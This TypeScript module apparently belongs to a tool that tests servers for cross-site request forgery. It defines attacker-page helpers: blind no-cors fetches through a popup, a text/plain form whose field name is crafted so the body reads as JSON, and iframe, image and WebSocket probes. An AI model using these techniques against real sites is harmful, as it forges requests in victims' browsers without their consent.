/** What runs in the attacker's page. Each function is handed over as text, so it stands alone. */
import type { PageRequest } from './requests.js';

/** What a page learned by a request. */
export interface Heard {
  /** `opaque`: it was sent, and the page may not know more. */
  readonly outcome: 'answered' | 'opaque' | 'failed';
  readonly status: number;
  /** The beginning of the body; nothing of a refusal is worth reading. */
  readonly text: string;
}

export interface FetchOrder {
  readonly url: string;
  readonly request: PageRequest;
  /** Without CORS there are no headers of one's own, and nothing to read. */
  readonly isBlind: boolean;
}

/** By the popup that the page has opened, if it has. */
export async function fetchInPage({ url, request, isBlind }: FetchOrder): Promise<Heard> {
  const { popup = window } = window as { popup?: Window & typeof globalThis };
  const giveUp = new AbortController();
  const init: RequestInit = { ...request, signal: giveUp.signal };
  const blind: RequestInit = {
    ...init,
    mode: 'no-cors',
    headers: { 'content-type': 'text/plain' },
  };
  try {
    const response = await popup.fetch(url, isBlind ? blind : init);
    if (response.type === 'opaque') return { outcome: 'opaque', status: 0, text: '' };
    const { value } = (await response.body?.getReader().read()) ?? {};
    const text = new TextDecoder().decode(value);
    return { outcome: 'answered', status: response.status, text };
  } catch {
    return { outcome: 'failed', status: 0, text: '' };
  } finally {
    giveUp.abort();
  }
}

export interface SubmitOrder {
  readonly url: string;
  readonly method: string;
  /** A JSON object. */
  readonly body: string;
  /** In a frame of the page instead of in place of the page. */
  readonly inFrame: boolean;
}

/**
 * Goes to an address, by a form if there is something to post. Its plain text is JSON: what has to
 * stand between a name and its value goes into a string.
 */
export function submitInPage({ url, method, body, inFrame }: SubmitOrder): void {
  const form = document.createElement('form');
  form.action = url;
  form.method = method;
  form.enctype = 'text/plain';
  const field = document.createElement('input');
  field.name = `${body.slice(0, -1)},"ignored":"`;
  field.value = '"}';
  form.append(field);
  for (const old of document.querySelectorAll('form, iframe')) old.remove();
  if (inFrame) {
    const frame = document.createElement('iframe');
    frame.name = 'frame';
    form.target = 'frame';
    document.body.append(frame);
  }
  document.body.append(form);
  const leave = (): void => (method === 'GET' ? location.assign(url) : form.submit());
  // The page may be gone at once, and with it whoever waits for this to return.
  setTimeout(leave);
}

/** At the next click the page opens `url` in a window that it can reach into. */
export function popUpByClick(url: string): void {
  document.querySelector('button')!.onclick = () => {
    (window as { popup?: Window | null }).popup = open(url);
  };
}

export function loadInPage({ tag, url }: { tag: 'img' | 'iframe'; url: string }): void {
  const element = document.createElement(tag);
  element.src = url;
  document.body.append(element);
}

/** Resolves to what the page heard of a WebSocket. */
export function openWebSocket(url: string): Promise<Heard> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => resolve({ outcome: 'answered', status: 101, text: '' });
    socket.onerror = () => resolve({ outcome: 'failed', status: 0, text: '' });
  });
}
